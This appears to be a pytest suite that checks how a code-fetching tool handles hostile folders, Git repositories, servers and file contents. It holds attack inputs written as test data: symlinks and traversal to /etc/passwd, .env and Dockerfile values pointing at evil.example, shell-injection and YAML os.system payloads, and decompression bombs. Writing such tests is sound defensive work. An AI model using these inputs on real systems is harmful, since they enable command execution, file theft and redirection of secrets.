# SPDX-License-Identifier: Apache-2.0
"""The hostile corpus: one row for each kind of attack, through the doors that people use.

Each row makes a source and says what becomes of it: `files` that are let in, or None where it is refused, and words
that the user is told. After every row: nothing ran, nothing was followed, nothing is left, and all text is printable.
"""

from __future__ import annotations

import ctypes
import gzip
import os
import shutil
import stat
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

import hostile_sources as made
from fetching import GitServer, commit, git
from homeport.analyze import analyze
from homeport.drivers.fetchers.folder import FolderFetcher
from homeport.drivers.fetchers.folder import Options as FolderOptions
from homeport.drivers.fetchers.git import GitFetcher, Options
from homeport.errors import InvalidSource, StalePlan
from homeport.settings import load
from hostile_sources import POINTER, evil, tree_of, write


@dataclass(frozen=True)
class Row:
    make: Callable[[Path], None]
    files: tuple[str, ...] | None = ()
    says: str = ""
    options: tuple[tuple[str, float], ...] = ()


# ── folders ──────────────────────────────────────────────────────────────────────────────────────────────────────────
FOLDERS = {
    "links to /etc/passwd, to folders, upwards": Row(made.link_to_passwd, ("a",), "3 symbolic links"),
    "hard link to a file elsewhere": Row(made.hard_link, ("a", "b")),
    "pipe, socket and devices": Row(made.special_files, ("a",), "4 special files"),
    "names that are no text, move the cursor, or lie": Row(
        made.strange_names, ("a", "dash -rf", "x" * 255), "control char"
    ),
    "names that are one on other systems": Row(made.colliding_names, ("README", "a", "d/x", "e\u0301"), "only by case"),
    "a path of 5,000 characters": Row(made.deep_path, ("a",), "too long or too deep"),
    "what may not be read": Row(made.unreadable, ("a",), "cannot be read"),
    "a terabyte of nothing": Row(made.sparse_terabyte, None, "more than 512 MB"),
    "more files than are read": Row(made.many_files, None, "more than 500 files", (("max_files", 500),)),
    "more folders than are read": Row(made.many_empty_folders, None, "more than 500 files", (("max_files", 500),)),
    "pointers of LFS": Row(lambda f: write(f, {"m.bin": POINTER}), ("a", "m.bin"), "1 files in Git LFS, 5000 MB"),
    "a tar's links, modes and pipes": Row(made.from_a_tar, ("a", "h"), "1 symbolic links"),
    "bytes that inflate, packed": Row(
        lambda f: write(f, {"package.json.gz": gzip.compress(bytes(50_000_000))}), ("a", "package.json.gz")
    ),
}


@pytest.mark.parametrize("name", FOLDERS)
async def test_folders(name, tmp_path):
    row = FOLDERS[name]
    source = tmp_path / "source"
    source.mkdir()
    write(source, {"a": "1"})
    row.make(source)
    fetcher = FolderFetcher(FolderOptions(**dict(row.options)))
    with unprivileged():
        if row.files is None:
            with pytest.raises(InvalidSource, match=row.says) as refused:
                await fetcher.fetch(str(source))
            assert refused.value.hint and printed(refused.value.message)
        else:
            view = await fetcher.fetch(str(source))
            analyze(view)
            view.close()
            assert {entry.path for entry in view.entries()} == set(row.files)
            assert row.says in "\n".join(view.skipped) and all(map(printed, view.skipped))
            await fetcher.export(view.source, tmp_path / "out")
    if row.files is not None:
        plain(tmp_path / "out", row.files)
    if (source / "shut").exists():
        (source / "shut").chmod(0o700)
    shutil.rmtree(source)


# ── repositories, read from the disk and from a server ───────────────────────────────────────────────────────────────
REPOSITORIES = {
    "link to /etc/passwd": Row(tree_of(("120000", "blob", b"passwd")), ("a",), "symbolic links: passwd"),
    "submodules with addresses that are programs": Row(made.hostile_modules, (".gitmodules", "a"), "submodules: sub"),
    "filters, hooks and helpers in its settings": Row(made.hostile_attributes, (".gitattributes", "a")),
    "names that are no text": Row(tree_of(("100644", "blob", b"\xff\xfe")), ("a",), "not UTF-8"),
    "names that move the cursor": Row(tree_of(("100644", "blob", b"b\x1b[2J\n")), ("a",), "control characters"),
    "names that lie about their end": Row(tree_of(("100644", "blob", "b\u202etxt.exe".encode())), ("a",), "control"),
    "names that begin with a dash": Row(tree_of(("100644", "blob", b"-rf")), ("-rf", "a")),
    "names that differ by case": Row(tree_of(("100644", "blob", b"A")), ("a",), "only by case: A"),
    "names of a drive or a stream": Row(tree_of(("100644", "blob", b".git::$INDEX_ALLOCATION")), ("a",), "for .git"),
    "pointers of LFS": Row(
        lambda f: commit(f, {"a": b"1", "m.bin": POINTER, ".gitattributes": b"*.bin filter=lfs -text\n"}),
        (".gitattributes", "a", "m.bin"), "1 files in Git LFS, 5000 MB",
    ),
    "ten thousand million files of twelve objects": Row(made.tree_bomb, None, "too many files"),
    "a hundred thousand files": Row(made.a_hundred_thousand_files, None, "more than 100000 files"),
    "a hundred folders in each other": Row(made.deep_tree, ("a",), "too long or too deep"),
}  # fmt: skip


@pytest.mark.parametrize("door", ["disk", "server"])
@pytest.mark.parametrize("name", REPOSITORIES)
async def test_repositories(name, door, tmp_path):
    row = REPOSITORIES[name]
    row.make(tmp_path / "served" / "repo")
    server = GitServer(tmp_path / "served") if door == "server" else None
    fetcher = GitFetcher(Options(cache=tmp_path / "cache", schemes=("http",), **dict(row.options)))
    locator = f"{server.url}/repo/.git" if server else str(tmp_path / "served" / "repo")
    try:
        if row.files is None:
            with pytest.raises(InvalidSource, match=row.says) as refused:
                await fetcher.fetch(locator)
            assert refused.value.hint and printed(refused.value.message)
        else:
            view = await fetcher.fetch(locator)
            analyze(view)
            view.close()
            assert {entry.path for entry in view.entries()} == set(row.files)
            assert row.says in "\n".join(view.skipped) and all(map(printed, view.skipped))
            await fetcher.export(view.source, tmp_path / "out")
            plain(tmp_path / "out", row.files)
    finally:
        if server:
            server.close()
    proof = tmp_path / "served" / "proof"
    assert not proof.exists() or door == "server", "what a server runs of its own repository is its own affair"
    assert not list(tmp_path.rglob("*.part"))


# ── repositories of this machine that point at others ────────────────────────────────────────────────────────────────
@pytest.mark.parametrize(
    "make",
    [
        made.gitfile,
        made.linked_folder,
        made.forged_work_tree,
        made.common_folder,
        made.alternates,
        made.linked_objects,
        made.linked_pack,
    ],
)
async def test_a_folder_cannot_hand_over_a_private_repository_of_the_user(make, tmp_path):
    private, folder = tmp_path / "private", tmp_path / "folder"
    commit(private, {"secret": b"mine"})
    folder.mkdir()
    make(folder, private)
    shown = git(folder, "show", "HEAD:secret", fails=True)
    assert shown == "mine", "plain git would have shown it: the test is a real one"
    with pytest.raises(InvalidSource) as refused:
        await GitFetcher(Options(cache=tmp_path / "cache")).fetch(str(folder))
    assert "another repository" in refused.value.message and "clone" in refused.value.hint


async def test_a_work_tree_that_its_repository_knows_is_read(tmp_path):
    commit(tmp_path / "repo", {"a": b"1"})
    git(tmp_path / "repo", "worktree", "add", "-q", str(tmp_path / "tree"), "-b", "other")
    view = await GitFetcher(Options(cache=tmp_path / "cache")).fetch(str(tmp_path / "tree"))
    assert view.read("a") == b"1"
    view.close()


# ── servers ──────────────────────────────────────────────────────────────────────────────────────────────────────────
SERVERS = {
    "a byte at a time": ("drip", {"max_seconds": 1.0}, "more than 1 s"),
    "a pack without end": ("endless", {"max_bytes": 2_000_000}, "larger than 2 MB"),
    "an answer that inflates": ("inflating", {}, "too much memory|larger|more than"),
    "an object that grows to 8 GiB": ("delta", {}, "too much memory"),
    "branches without end": ("branches", {}, "too much memory|too many files"),
    "a page for people": ("page", {}, "no commit|as a Git repository|does not exist"),
    "a password is asked for": ("private", {}, "does not exist or is private"),
}


@pytest.mark.parametrize("name", SERVERS)
async def test_servers(name, tmp_path):
    kind, caps, says = SERVERS[name]
    commit(tmp_path / "served" / "repo", {"a": b"1"})
    server = GitServer(tmp_path / "served")
    try:
        fetcher = GitFetcher(Options(cache=tmp_path / "cache", **{"schemes": ("http",), "max_seconds": 60.0, **caps}))
        with pytest.raises(InvalidSource, match=says) as refused:
            await fetcher.fetch(f"{server.url}/{kind}/repo/.git")
        assert refused.value.hint and printed(refused.value.message)
    finally:
        server.close()
    assert not list(tmp_path.rglob("*.part"))


@pytest.mark.parametrize(
    "target", ["file://{here}", "ext::{evil}", "git://127.0.0.1:1/x", "http://127.0.0.1:1", "{own}"]
)
async def test_a_redirect_leads_nowhere_but_to_the_user(target, tmp_path):
    script = evil(tmp_path / "served")
    commit(tmp_path / "served" / "repo", {"a": b"1"})
    server = GitServer(tmp_path / "served")
    try:
        server.elsewhere = target.format(here=tmp_path / "served", evil=script, own=f"{server.url}/moved")
        with pytest.raises(InvalidSource, match="redirect") as refused:
            await GitFetcher(Options(cache=tmp_path / "cache", schemes=("http",))).fetch(
                f"{server.url}/moved/repo/.git"
            )
        assert "use the one it leads to" in refused.value.hint
    finally:
        server.close()
    assert not (tmp_path / "proof").exists()


# ── what stands in the files ─────────────────────────────────────────────────────────────────────────────────────────
TEXTS: dict[str, dict[str, str | bytes]] = {
    "another OPA, Vault and model in .env": {
        ".env": "OPA_URL=http://evil.example\nVAULT_ADDR=http://evil.example\nOPENAI_BASE_URL=http://evil.example\n"
        "HOMEPORT_URL=http://evil.example\nHOMEPORT_DATABASE_URL=postgresql://evil.example/x\n"
        "DOCKER_HOST=tcp://evil.example:1\n",
    },
    "settings of ours beside the code": {
        "config.toml": 'url = "http://evil.example"\n',
        "homeport/config.toml": 'url = "http://evil.example"\n',
        ".config/homeport/config.toml": 'url = "http://evil.example"\n',
        "config/admin-token": "evil",
    },
    "a Dockerfile of a hundred thousand lines": {"Dockerfile": "FROM a\n" + "RUN evil\n" * 100_000 + "CMD evil"},
    "a Dockerfile that never ends its document": {"Dockerfile": "FROM a\nRUN <<E\n" + "CMD evil\n" * 5000},
    "a Dockerfile that climbs and triggers": {
        "Dockerfile": "# syntax=evil.example/x\nFROM a\nADD https://evil.example/x /\n"
        "COPY ../../etc/passwd /\nONBUILD CMD evil\n"
    },
    "a Dockerfile of a thousand stages": {"Dockerfile": "".join(f"FROM s{n} AS s{n + 1}\n" for n in range(1000))},
    "JSON in itself": {"package.json": '{"scripts":' * 20_000},
    "YAML in itself": {"homeport.yaml": "start: " + "[" * 50_000},
    "YAML that multiplies": {"homeport.yaml": "a: &a [x,x]\nb: &b [*a,*a]\nstart: [*b,*b]\n"},
    "YAML that calls": {"homeport.yaml": "start: !!python/object/apply:os.system [evil]\n"},
    "TOML in itself": {"pyproject.toml": "a = " + "[" * 50_000},
    "Python in itself": {"main.py": "__main__ = " + "(" * 50_000},
    "commands of a terminal": {"Procfile": "web: evil \x1b]0;owned\x07\n", "README.md": "\x1b[2J$ evil\n"},
    "commands of a shell": {
        "Procfile": "web: $(evil) `evil` | evil > /etc/passwd\n",
        "homeport.yaml": "start: a; evil\n",
    },
}


@pytest.mark.parametrize("name", TEXTS)
async def test_what_stands_in_files_is_read_and_no_more(name, tmp_path, monkeypatch):
    source = tmp_path / "source"
    write(source, TEXTS[name])
    before = load(environ={"HOME": str(tmp_path / "home")})
    monkeypatch.chdir(source)
    assert load(environ={"HOME": str(tmp_path / "home")}) == before, "where one stands decides nothing"
    view = await FolderFetcher().fetch(str(source))
    found = analyze(view)
    view.close()
    words = " ".join(found.start.value) if found.start else ""
    assert "evil" not in words and words.isprintable()
    assert all(map(printed, found.warnings)) and len(found.warnings) <= 50
    assert "evil.example" not in str(found.env_values) and not found.secrets


# ── what moves while it is read ──────────────────────────────────────────────────────────────────────────────────────
async def test_a_folder_that_changes_while_it_is_copied_is_copied_as_planned_or_not_at_all(tmp_path):
    source = tmp_path / "source"
    write(source, {f"d{n % 7}/{n}": b"x" * 2000 for n in range(300)})
    fetcher = FolderFetcher()
    view = await fetcher.fetch(str(source))
    view.close()
    for round_ in range(4):
        copying = fetcher.export(view.source, tmp_path / f"out{round_}")

        def stir(round_: int = round_) -> None:
            shutil.rmtree(source / "d3")
            (source / "d3").symlink_to("/etc")
            (source / "d3").unlink()
            write(source, {f"d3/{n}": b"x" * (2000 + round_) for n in range(300) if n % 7 == 3})

        import asyncio

        _, copied = await asyncio.gather(asyncio.to_thread(stir), copying, return_exceptions=True)
        if copied is None:
            plain(tmp_path / f"out{round_}", tuple(f"d{n % 7}/{n}" for n in range(300)))
        else:
            assert isinstance(copied, StalePlan), copied
            assert not (tmp_path / f"out{round_}").exists()


# ── what is checked after every row ──────────────────────────────────────────────────────────────────────────────────
def printed(text: str) -> bool:
    return all(char.isprintable() or char == "\n" for char in text)


def plain(folder: Path, files: tuple[str, ...]) -> None:
    """Exactly these regular files, each of its own, none of them setuid."""
    found = [path for path in folder.rglob("*") if not path.is_dir() or path.is_symlink()]
    assert {str(path.relative_to(folder)) for path in found} == set(files)
    for path in found:
        status = path.lstat()
        assert stat.S_ISREG(status.st_mode) and status.st_nlink == 1 and status.st_mode & 0o7000 == 0


class unprivileged:
    """Without root's right to read everything, for the thread's life: threads started within inherit it."""

    _CAPABILITIES = 0x20080522

    def __enter__(self) -> None:
        self._head = (ctypes.c_uint32 * 2)(self._CAPABILITIES, 0)
        self._had = (ctypes.c_uint32 * 6)()
        libc = ctypes.CDLL(None, use_errno=True)
        self._set = libc.capset
        if os.geteuid() == 0:
            assert libc.capget(self._head, self._had) == 0
            less = (ctypes.c_uint32 * 6)(*self._had)
            less[0] &= ~0b1110  # DAC_OVERRIDE, DAC_READ_SEARCH, FOWNER
            assert self._set(self._head, less) == 0

    def __exit__(self, *exc: object) -> None:
        if os.geteuid() == 0:
            assert self._set(self._head, self._had) == 0
